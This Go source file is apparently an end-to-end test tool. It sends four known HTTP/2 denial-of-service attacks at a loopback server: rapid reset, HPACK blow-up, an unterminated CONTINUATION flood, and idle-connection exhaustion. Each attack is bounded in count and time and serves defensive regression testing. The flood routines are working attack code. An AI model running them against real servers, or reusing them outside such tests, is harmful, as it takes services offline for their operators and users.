// Command attack sends what HTTP/2 servers have died of to an address on loopback, bounded in count and time, for
// tests/e2e/attack_test.sh:
//
//	attack [flags] reset          rapid reset (CVE-2023-44487): streams that are opened and reset at once
//	attack [flags] hpack          HPACK blow-up (CVE-2023-33953): a header block that refers to one long entry thousands of times
//	attack [flags] continuation   a header block that does not end (CVE-2024-27316)
//	attack [flags] idle           connections that say nothing, which cost descriptors (CVE-2023-4785)
//
// With -cert the connections are TLS. It prints what it sent and how many connections the other side closed, and exits with 0: what must
// hold afterwards is the test's.
package main

import (
	"bytes"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var (
	address     = flag.String("address", "", "HOST:PORT, on loopback")
	certificate = flag.String("cert", "", "the client's certificate; empty: plaintext")
	key         = flag.String("key", "", "its key")
	connections = flag.Int("connections", 4, "connections at once")
	count       = flag.Int("count", 50_000, "streams, references or frames of each connection, at most")
	bound       = flag.Duration("bound", 30*time.Second, "how long in all, at most")
)

// What was sent, by all connections.
var sent, closed, refused atomic.Int64

func main() {
	flag.Parse()
	host, _, err := net.SplitHostPort(*address)
	if err != nil || flag.NArg() != 1 || !net.ParseIP(host).IsLoopback() {
		log.Fatal("usage: attack -address 127.0.0.1:PORT [flags] reset|hpack|continuation|idle")
	}
	attack, known := map[string]func(*peer){"reset": reset, "hpack": blowUp, "continuation": continuation, "idle": idle}[flag.Arg(0)]
	if !known {
		log.Fatalf("no attack %q", flag.Arg(0))
	}
	deadline := time.Now().Add(*bound)
	var all sync.WaitGroup
	for range *connections {
		all.Add(1)
		go func() {
			defer all.Done()
			run(attack, deadline)
		}()
		if flag.Arg(0) == "idle" {
			time.Sleep(time.Millisecond) // the accept queue is not what is tried here
		}
	}
	all.Wait()
	fmt.Printf("%s: %d connections, %d refused, %d closed by the other side, %d sent\n", flag.Arg(0), *connections, refused.Load(),
		closed.Load(), sent.Load())
}

// peer is one connection.
type peer struct {
	conn   net.Conn
	framer *http2.Framer
	gone   chan struct{} // closed when the other side has closed it
}

func run(attack func(*peer), deadline time.Time) {
	conn, err := dial(deadline)
	if err != nil {
		refused.Add(1)
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(deadline)
	p := &peer{conn: conn, framer: http2.NewFramer(conn, nil), gone: make(chan struct{})}
	go func() {
		// What the other side says is not heeded, but for the end of the connection.
		if _, err := io.Copy(io.Discard, conn); !os.IsTimeout(err) {
			closed.Add(1)
		}
		close(p.gone)
	}()
	attack(p)
	conn.Close()
	<-p.gone
}

func dial(deadline time.Time) (net.Conn, error) {
	dialer := &net.Dialer{Deadline: deadline, Timeout: 10 * time.Second}
	if *certificate == "" {
		return dialer.Dial("tcp", *address)
	}
	pair, err := tls.LoadX509KeyPair(*certificate, *key)
	if err != nil {
		log.Fatal(err)
	}
	config := &tls.Config{Certificates: []tls.Certificate{pair}, NextProtos: []string{"h2"}, InsecureSkipVerify: true}
	return tls.DialWithDialer(dialer, "tcp", *address, config)
}

// greet begins HTTP/2.
func (p *peer) greet() bool {
	if _, err := io.WriteString(p.conn, http2.ClientPreface); err != nil {
		return false
	}
	return p.framer.WriteSettings() == nil
}

// headers is the header block of a call, with an entry of so many bytes that is kept in the other side's table.
func headers(long int) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "localhost"},
		{Name: ":path", Value: "/ductape.jobs.v1.AdminService/GetServerInfo"}, {Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		_ = encoder.WriteField(field)
	}
	if long > 0 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", long)})
	}
	return block.Bytes()
}

func reset(p *peer) {
	if !p.greet() {
		return
	}
	block := headers(0)
	for i := range *count {
		id := uint32(2*i + 1)
		if p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil ||
			p.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
		sent.Add(1)
	}
}

// blowUp sends header blocks of 16 KiB in each of which a byte stands for an entry of 3,900 bytes: 64 MB a block.
func blowUp(p *peer) {
	if !p.greet() {
		return
	}
	const frame = 16 * 1024
	first := headers(3900)
	// Index 62 is the newest entry of the dynamic table.
	references := bytes.Repeat([]byte{0x80 | 62}, frame-len(first))
	for i := range *count {
		block := append(append([]byte{}, first...), references...)
		if p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true}) != nil {
			return
		}
		sent.Add(int64(len(references)))
	}
}

func continuation(p *peer) {
	if !p.greet() {
		return
	}
	if p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers(0)}) != nil {
		return
	}
	// Of a name and a value that are not kept in the table.
	fragment := append([]byte{0x00, 0x01, 'y', 0x7f, 0x81, 0x07}, bytes.Repeat([]byte{'b'}, 1024)...)
	for range *count {
		if p.framer.WriteContinuation(1, false, fragment) != nil {
			return
		}
		sent.Add(1)
	}
}

// idle does nothing until the time is over, or the other side has enough of it.
func idle(p *peer) {
	sent.Add(1)
	<-p.gone
}
